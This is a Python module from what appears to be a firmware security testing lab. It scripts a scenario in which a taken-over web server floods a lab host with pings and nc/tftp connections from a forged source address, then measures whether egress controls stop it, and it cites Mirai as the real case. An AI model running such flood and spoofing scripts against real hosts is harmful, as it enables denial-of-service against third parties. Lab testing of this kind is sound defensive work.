"""A web server that was taken over, and floods another host, with sources that are not its own: what botnets do."""

from ipaddress import IPv4Address

from firmward.lab.attacks import Attack, Need, Position, Result, Unseen
from firmward.lab.challenge import Challenge
from firmward.lab.links import RUNNING
from firmward.lab.means import wire
from firmward.lab.means.taken_service import as_root, taken
from firmward.lab.target import Target, Witness

VICTIM = "10.0.2.2"
FORGED = int(IPv4Address("198.18.0.0"))
"""For tests of networks (RFC 2544), and nobody's; the last two bytes are the challenge's answer."""
FLOOD = 60
"""Packets in a second. What the camera's policy lets out is about forty, most of them to the network's own resolver."""
CODE = """\
product={word}
forged=198.18.$((product >> 8 & 255)).$((product & 255))
ip addr add $forged/32 dev eth0
for n in 1 2 3 4 5 6; do
	ping -I $forged -i 0.02 -s 900 {victim} &
	while :; do
		for port in 9 23 53 443 8883; do
			timeout 1 nc {victim} $port </dev/null
			timeout 1 tftp -g -r own -l /dev/null {victim} $port
		done
	done &
done >/dev/null 2>&1
sleep 5
kill $(jobs -p)
echo flooded
"""
"""With forged sources where the device lets him, and in any case with all that needs no rights."""


def run(target: Target) -> Result:
    source = forged(target.challenge)
    with wire.tapped() as tap, taken(target, (), tap.arguments, (tap.descriptor,)) as service:
        if "flooded" not in service.run(as_root(CODE.format(word=target.challenge.shell, victim=VICTIM))):
            raise Unseen("his code did not come to its end")
        target.note(Witness.ATTACKER, f"sends all that he can to {VICTIM}, from an address that is not the device's")
        sent = [one for one in tap.sent() if one.opens and str(one.target) == VICTIM]
        rate, alien = wire.fastest(sent), sum(one.source == source for one in sent)
        target.note(Witness.NETWORK, f"{rate} packets in one second are the most, {alien} in all come from {source}")
        if alien or rate >= FLOOD:
            return Result.SUCCEEDED
        return service.goes_on(f"no second has {FLOOD} packets, and none has a forged source")


def forged(challenge: Challenge) -> IPv4Address:
    return IPv4Address(FORGED + challenge.first * challenge.second % (1 << 16))


ATTACK = Attack(
    id="flood-from-service",
    title="A taken-over service floods others",
    does="runs code in the web server, and from there floods another host with packets of forged sources",
    position=Position.SERVICE,
    link=RUNNING,
    case="Mirai (2016): floods of 600 Gbit/s and more from cameras (Antonakakis et al., USENIX Security 2017)",
    foretold=("egress-unrestricted", "firewall-default-accept"),
    run=run,
    needs=(Need.NETWORK, Need.SCRIPT),
)
